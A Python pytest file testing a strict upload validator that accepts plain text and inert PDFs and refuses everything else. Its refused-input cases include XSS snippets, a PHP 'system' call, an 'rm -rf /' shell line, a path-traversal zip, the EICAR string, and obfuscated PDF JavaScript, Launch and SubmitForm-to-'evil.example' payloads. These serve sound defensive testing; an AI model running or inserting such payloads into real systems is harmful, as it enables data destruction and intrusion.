"""Documents that people send, looked into."""

import zipfile
from io import BytesIO

import pytest

from app.domain.files import FileType, UnsupportedFile
from app.integrations.documents import strict
from app.integrations.documents.strict import StrictDocuments
from tests.factories.files import packed, pdf


def zipped() -> bytes:
    made = BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("../../evil", bytes(100_000))
    return made.getvalue()


SCRIPT = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


@pytest.fixture
def documents():
    documents = StrictDocuments()
    yield documents
    documents.close()


@pytest.mark.parametrize(
    "content",
    [
        b"Just text.",
        "Привет, світ".encode(),
        b"\xef\xbb\xbfwith a mark",
        b"a < b and c > d\r\n\tindented",
        b"if x <script_count: pass"[:6],
        b"one,two\n3,4\n",
        b"#EXTM3U\nhttp://10.0.0.1/secret",  # text, which nothing here plays
    ],
)
async def test_text_is_text(documents, content):
    assert await documents.examine(content) is FileType.TEXT


@pytest.mark.parametrize(
    "content",
    [
        b"",
        b" \n ",
        b"a\x00b",
        b"\x7fELF\x02\x01\x01\x00",
        b"MZ\x90\x00\x03\x00",
        "text".encode("utf-16"),
        b"caf\xe9",
        b"\x1b[31mred",
        b"<!DOCTYPE html><p>x",
        b"hello <ScRiPt>alert(1)</script>",
        b"< script >alert(1)",
        b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
        b"<?xml version='1.0'?><svg/>",
        b"<?php system('id');",
        b"#!/bin/sh\nrm -rf /",
        b"%!PS-Adobe-3.0",
        b"{\\rtf1 x}",
        EICAR,
        zipped(),
        b"GIF89a"[:3] + b"\x00",
    ],
)
async def test_what_is_more_or_less_than_text_is_refused(documents, content):
    with pytest.raises(UnsupportedFile):
        await documents.examine(content)


@pytest.mark.parametrize(
    "content",
    [
        pdf(),
        pdf(b"<< /Type /Annot /A << /S /URI /URI (https://example.com) >> >>"),
        pdf(packed(b"4 0 << /Type /Font >>")),
        pdf(packed(b"4 0 << /Type /Font >>", told=b"/Filter [ /FlateDecode ]")),
        pdf(b"<< /Length 4 >>\nstream\n/JS \nendstream"),  # as the noise of a picture may have it
    ],
    ids=["plain", "a link", "packed objects", "packed in a list", "noise"],
)
async def test_a_document_that_does_nothing_is_taken(documents, content):
    assert await documents.examine(content) is FileType.PDF


@pytest.mark.parametrize(
    "content",
    [
        b"%PDF-1.7\nno end",
        b"%PDF-x" + pdf()[6:],
        pdf() + bytes(2000),
        pdf() + zipped() * 20,
        pdf(SCRIPT),
        pdf(SCRIPT.replace(b"/JavaScript", b"/J#61va#53cript")),
        pdf(catalog=b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /Launch /F (x) >> >>"),
        pdf(b"<< /Type /EmbeddedFile /Length 0 >>"),
        pdf(b"<< /XFA 4 0 R >>"),
        pdf(b"<< /S /SubmitForm /F (https://evil.example) >>"),
        pdf(b"<< /Encrypt 4 0 R >>"),
        pdf(packed(b"4 0 " + SCRIPT)),
        pdf(packed(b"4 0 " + SCRIPT.replace(b"/JavaScript", b"/#4aavaScript"))),
        pdf(packed(b"4 0 " + SCRIPT).replace(b"/ObjStm", b"/Obj#53tm")),
        pdf(packed(b"4 0 x", told=b"/Filter /LZWDecode")),
        pdf(packed(b"4 0 x", told=b"/Filter [/FlateDecode /ASCII85Decode]")),
        pdf(packed(b"4 0 x", told=b"/Filter [/ASCII85Decode /FlateDecode]")),
        pdf(packed(b"4 0 x", told=b"/Filter 9 0 R")),
        pdf(packed(b"4 0 x", told=b"/F /x /Filter /FlateDecode")),
        pdf(packed(b"4 0 x", told=b"/Filter /FlateDecode /DecodeParms << /Predictor 12 >>")),
        pdf(packed(bytes(range(256)))[:-60]),
        pdf(b"<< /Type /ObjStm /Filter /FlateDecode >>\nstream\nno zlib\nendstream"),
        pdf(packed(b"4 0 x", told=b" " * strict.LONGEST_HEAD + b"/Filter /FlateDecode")),
    ],
)
async def test_a_document_that_may_do_something_is_refused(documents, content):
    with pytest.raises(UnsupportedFile):
        await documents.examine(content)


async def test_what_unpacks_to_more_than_allowed_is_refused(documents, monkeypatch):
    monkeypatch.setattr(strict, "MOST_UNPACKED", 1000)
    within = pdf(packed(b" " * 400), packed(b" " * 599))

    assert await documents.examine(within) is FileType.PDF
    for beyond in (pdf(packed(bytes(1001))), pdf(packed(b" " * 500), packed(b" " * 501))):
        with pytest.raises(UnsupportedFile):
            await documents.examine(beyond)
    with pytest.raises(UnsupportedFile):  # when nothing is left at all
        await documents.examine(pdf(packed(b" " * 999), packed(b" "), packed(b" ")))


async def test_a_document_of_too_many_streams_is_refused(documents, monkeypatch):
    monkeypatch.setattr(strict, "MOST_STREAMS", 2)
    one = b"<< /Length 1 >>\nstream\nx\nendstream"

    assert await documents.examine(pdf(one, one)) is FileType.PDF
    with pytest.raises(UnsupportedFile):
        await documents.examine(pdf(one, one, one))
